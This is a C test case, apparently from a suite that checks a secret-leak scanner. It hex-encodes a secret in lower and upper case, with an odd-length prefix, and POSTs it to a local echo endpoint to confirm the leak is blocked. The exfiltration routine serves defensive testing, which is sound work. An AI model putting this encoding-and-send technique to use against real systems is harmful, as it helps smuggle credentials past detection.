/*
 * secret_hex_body: send the secret hex-encoded in a body.
 *
 * As secret_url; lower- and upper-case hex, with a prefix of odd length
 * (so the hex digits of the secret start at an odd offset), POSTed to B.
 * Proves: the scanner finds hex spellings.
 */
#include <stdio.h>
#include <string.h>

#include "attack.h"

int main(void)
{
	const char *how, *v = learn_secret(&how);
	char hex[9000], body[9100], url[256];

	note("secret %s", how);
	snprintf(url, sizeof(url), "http://127.0.0.1:%s/echo", input_need("port_b"));
	for (int upper = 0; upper < 2; upper++) {
		const char *digits = upper ? "0123456789ABCDEF" : "0123456789abcdef";
		size_t n = strlen(v), o = 0;

		for (size_t i = 0; i < n && o + 2 < sizeof(hex); i++) {
			hex[o++] = digits[(unsigned char)v[i] >> 4];
			hex[o++] = digits[(unsigned char)v[i] & 15];
		}
		hex[o] = '\0';
		snprintf(body, sizeof(body), "d=7%s", hex);
		attempt_request("POST", url, NULL, body, strlen(body),
		                upper ? "B/echo HEX(SECRET)" : "B/echo hex(SECRET)");
	}
	blocked("hex spellings of the secret were refused");
}
